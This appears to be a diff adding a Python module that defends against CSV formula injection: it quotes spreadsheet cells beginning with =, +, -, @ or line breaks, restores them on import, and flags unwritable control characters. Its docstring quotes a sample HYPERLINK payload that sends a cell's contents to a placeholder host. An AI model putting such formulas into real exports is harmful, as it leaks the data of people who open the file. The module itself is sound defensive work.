@@ -1,0 +1,97 @@
+"""Text cells that spreadsheets cannot run and files that every reader can hold.
+
+A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a line break
+is a formula to Excel, LibreOffice and Google Sheets when they open a CSV file
+(and when someone edits the cell of a workbook): a name such as
+``=HYPERLINK("http://x/?q="&B2,"Click")`` would run on the coordinator's
+computer. Every exported text cell of that kind is written with a single quote
+before it (the OWASP rule for CSV injection); numbers such as ``-25.3`` are
+numbers, not formulas, and stay as they are. Reading a dataset takes the quote
+away again, so an export loads back equal.
+
+Ids may hold no control character at all (not even a tab or a line break);
+other text may hold tabs and line breaks but none of the other C0 controls,
+which an ``.xlsx`` workbook cannot store.
+
+Examples
+--------
+>>> inert('=HYPERLINK("http://x")'), inert("-25.3"), inert("'=1"), inert("Itá")
+('\\'=HYPERLINK("http://x")', '-25.3', "''=1", 'Itá')
+>>> [restored(inert(t)) for t in ("=1+1", "@SUM(A1)", "-", "'-x", "Itá", "-1,5")]
+['=1+1', '@SUM(A1)', '-', "'-x", 'Itá', '-1,5']
+>>> first_control("W\\x001"), first_control("W1"), first_unwritable("a\\tb"), first_unwritable("a\\x01")
+('\\\\x00', None, None, '\\\\x01')
+"""
+
+from __future__ import annotations
+
+import re
+
+import numpy as np
+
+__all__ = [
+    "CONTROL",
+    "UNWRITABLE",
+    "first_control",
+    "first_unwritable",
+    "inert",
+    "restored",
+    "restored_cells",
+    "workbook_text",
+]
+
+#: The first characters that make a spreadsheet read a cell as a formula, after any quotes
+#: (and a line feed, which a workbook's XML makes of a carriage return).
+_FORMULA = re.compile(r"'*[=+\-@\t\r\n]")
+#: A number as people write it (a negative one is not a formula).
+_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
+#: Every control character (C0, DEL and C1): none may be in an id.
+CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
+#: The C0 controls other than tab, line feed and carriage return: no workbook can hold them
+#: (``openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE``).
+UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+def inert(text: str) -> str:
+    """``text`` as a cell no spreadsheet runs: a quote before a formula's first character."""
+    if _FORMULA.match(text) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def restored(text: str) -> str:
+    """The text an :func:`inert` cell was made from (other cells as they are)."""
+    if text.startswith("'") and _FORMULA.match(text, 1):
+        return text[1:]
+    return text
+
+
+def restored_cells(cells: np.ndarray) -> np.ndarray:
+    """:func:`restored` on a column of text cells (a new array only when one changes)."""
+    quoted = np.flatnonzero(np.strings.startswith(cells, "'"))
+    if not len(quoted):
+        return cells
+    cells = cells.copy()
+    for i in quoted:
+        cells[i] = restored(str(cells[i]))
+    return cells
+
+
+def workbook_text(text: str) -> str:
+    """An inert cell that a workbook can hold: a character it cannot is written as U+FFFD."""
+    return UNWRITABLE.sub("\ufffd", inert(text))
+
+
+def _first(pattern: re.Pattern[str], text: str) -> str | None:
+    found = pattern.search(text)
+    return None if found is None else repr(found.group())[1:-1]
+
+
+def first_control(text: str) -> str | None:
+    """The first control character of ``text``, escaped as Python writes it (None when it has none)."""
+    return _first(CONTROL, text)
+
+
+def first_unwritable(text: str) -> str | None:
+    """The first character of ``text`` a workbook cannot hold, escaped (None when it has none)."""
+    return _first(UNWRITABLE, text)
